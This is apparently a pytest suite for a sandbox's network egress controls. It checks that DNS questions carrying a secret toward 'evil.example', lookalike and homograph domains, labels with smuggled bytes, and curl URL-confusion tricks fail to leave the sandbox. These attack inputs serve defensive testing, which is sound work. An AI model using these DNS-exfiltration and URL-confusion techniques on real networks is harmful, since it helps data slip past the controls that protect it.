"""Names as a way out: questions that carry a secret, and names that look like an allowed one."""

from __future__ import annotations

import struct
from typing import Any

import pytest

from attacks.egress.reach import Reach

A, NULL, MX, TXT, AAAA, SRV, OPT, HTTPS, ANY = 1, 10, 15, 16, 28, 33, 41, 65, 255
NXDOMAIN = 3
SECRET = "the-secret-in-a-label"
GET = "GET / HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n"


def query(*labels: bytes | str, kind: int = A, option: bytes = b"") -> str:
    """A question for a name of these labels; with `option` as the content of an EDNS option."""
    encoded = [label.encode() if isinstance(label, str) else label for label in labels]
    name = b"".join(bytes([len(label)]) + label for label in encoded) + b"\0"
    extra = b""
    if option:
        data = struct.pack(">HH", 65001, len(option)) + option
        extra = b"\0" + struct.pack(">HHIH", OPT, 1232, 0, len(data)) + data
    head = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, int(bool(option)))
    return (head + name + struct.pack(">HH", kind, 1) + extra).hex()


def get(name: str, port: int = 80) -> list[Any]:
    return [name, port, GET.format(name)]


def test_a_question_with_a_secret_in_it_leaves_no_packet(reach: Reach) -> None:
    name = (SECRET, "evil", "example")
    servers = ("11.0.0.53", "8.8.8.8")
    served = [(server, transport) for server in servers for transport in ("udp", "tcp")]
    others = [("198.18.0.1", "udp"), ("127.0.0.1", "udp"), ("203.0.113.9", "tcp")]
    if reach.internet.ipv6:
        others += [("2a10:600d::66", "udp"), ("2a10:600d::66", "tcp"), ("::1", "udp"), ("fd00::1", "tcp")]
    forms = [query(*name, kind=kind) for kind in (A, NULL, MX, TXT, AAAA, SRV, HTTPS, ANY)]
    forms.append(query(*name, kind=TXT, option=SECRET.encode()))
    asked = [[server, transport, form] for server, transport in [*served, *others] for form in forms]
    control = [[server, transport, form] for server, transport in served for form in forms]
    reach.outside("questions", control)
    assert len(reach.internet.events("dns", name=f"{SECRET}.evil.example")) == len(control)
    inside = reach.inside("questions", asked, net=["api.good.example", "*.wild.good.example"])
    assert reach.internet.events() == []
    assert set(inside.verdict) == {NXDOMAIN}
    assert {one["name"] for one in inside.result["denials"] if "name" in one} <= {f"{SECRET}.evil.example"}
    assert inside.decisions("name", verdict="denied")[0]["name"] == f"{SECRET}.evil.example"


def test_a_question_below_an_allowed_wildcard_leaves_no_packet_before_a_connection(reach: Reach) -> None:
    forms = [query(SECRET, "wild", "good", "example", kind=kind) for kind in (A, TXT, AAAA)]
    asked = [["8.8.8.8", transport, form] for transport in ("udp", "tcp") for form in forms]
    reach.outside("questions", asked)
    assert len(reach.internet.events("dns")) == len(asked)
    inside = reach.inside("questions", asked, net=["*.wild.good.example:80"])
    assert set(inside.verdict) == {0} and reach.internet.events() == []


def test_names_below_a_wildcard_that_leave_by_connections_are_bounded_and_recorded(reach: Reach) -> None:
    """A connection makes the host resolve the name, which the owner of the zone sees: not a secret's way out
    of any width."""
    long = [f"{number:02}-{'x' * 50}.wild.good.example" for number in range(30)]
    reach.outside("dials", [get(name) for name in long])
    assert len(reach.internet.asked()) == 30
    inside = reach.inside("dials", [get(name) for name in long], net=["*.wild.good.example:80"])
    asked = reach.internet.asked()
    assert len(asked) == 10 and asked <= set(long)
    assert {one["name"] for one in inside.decisions(verdict="allowed")} == asked
    refused = inside.decisions(verdict="denied", reason="too many names")
    assert {one["name"] for one in refused} == set(long) - asked


LIKE = (
    "evilapi.good.example",
    "api.good.example.evil.example",
    "api.good.examples",
    "good.example",
    "x.api.good.example",
    "wild.good.example",
    "evilwild.good.example",
    "api.good.example-evil.example",
    "xn--pi-6kc.good.example",  # with a Cyrillic letter
    "api_good.example",
    "api.good.example.localhost.evil.example",
)


def test_a_name_that_only_looks_like_an_allowed_one_does_not_exist(reach: Reach) -> None:
    reach.internet.zone(**{name: {"A": ["11.0.0.66"]} for name in LIKE})
    attack = [get(name) for name in LIKE]
    reach.outside("dials", attack)
    assert {event["host"] for event in reach.internet.events("request")} == set(LIKE)
    inside = reach.inside("dials", attack, net=["api.good.example", "*.wild.good.example"])
    assert set(inside.verdict.values()) == {"no such name"}
    assert reach.internet.events() == []


@pytest.mark.parametrize(
    "labels",
    [
        (b"evil\0", b"good", b"example"),
        (b"api\0evil", b"good", b"example"),
        (b"evil", b"example\0", b"wild", b"good", b"example"),
        (b"evil.example", b"wild", b"good", b"example"),
        (b"api.good.example",),
        (b"api.good", b"example"),
        (b"api ", b"good", b"example"),
        (b"api", b"good", b"example\xff"),
        (b"*", b"wild", b"good", b"example"),
        (b"api", b"good", b"example", b"evil"),
        (b"\xc0\xb0pi", b"good", b"example"),
        (b"a" * 63, b"b" * 63, b"c" * 63, b"evil", b"example"),
    ],
    ids=lambda labels: ".".join(str(label)[2:-1][:12] for label in labels),
)
def test_labels_with_odd_bytes_are_no_allowed_name(reach: Reach, labels: tuple[bytes, ...]) -> None:
    asked = [["8.8.8.8", transport, query(*labels)] for transport in ("udp", "tcp")]
    reach.outside("questions", asked)
    assert len(reach.internet.events("dns")) == 2
    inside = reach.inside("questions", asked, net=["api.good.example", "*.wild.good.example"])
    assert set(inside.verdict) == {NXDOMAIN} and reach.internet.events() == []


def test_other_spellings_of_an_allowed_name_are_that_name(reach: Reach) -> None:
    spellings = ["API.Good.EXAMPLE", "api.good.example.", "BÜCHER.good.example", "xn--BCHER-kva.good.example"]
    inside = reach.inside(
        "dials",
        [[name, 80, GET.format(name.encode("idna").decode())] for name in spellings],
        net=["api.good.example:80", "bücher.good.example:80"],
    )
    assert all(answer.startswith("HTTP/1.1 200") for answer in inside.verdict.values()), inside.verdict
    assert {one["name"] for one in inside.decisions()} == {"api.good.example", "xn--bcher-kva.good.example"}


@pytest.mark.parametrize(
    "url",
    [
        "http://api.good.example@evil.example/",
        "http://api.good.example:80@evil.example/",
        "http://evil.example#@api.good.example/",
        "http://evil.example?@api.good.example/",
        "http://EVIL.example./",
        "http://api.good.example.evil.example/",
    ],
)
def test_curl_reaches_no_other_host_by_a_confusing_url(reach: Reach, url: str) -> None:
    command = ["curl", "-sS", "--max-time", "5", url]
    reach.internet.outside(command)
    assert {event["address"] for event in reach.internet.events("connection")} <= {
        "11.0.0.66",
        "2a10:600d::66",
    }
    assert reach.internet.events("connection")
    reach.internet.clear()
    result = reach.supervisor.run(command, ["api.good.example"])
    assert result["ended"][1] != 0 and reach.internet.events() == []
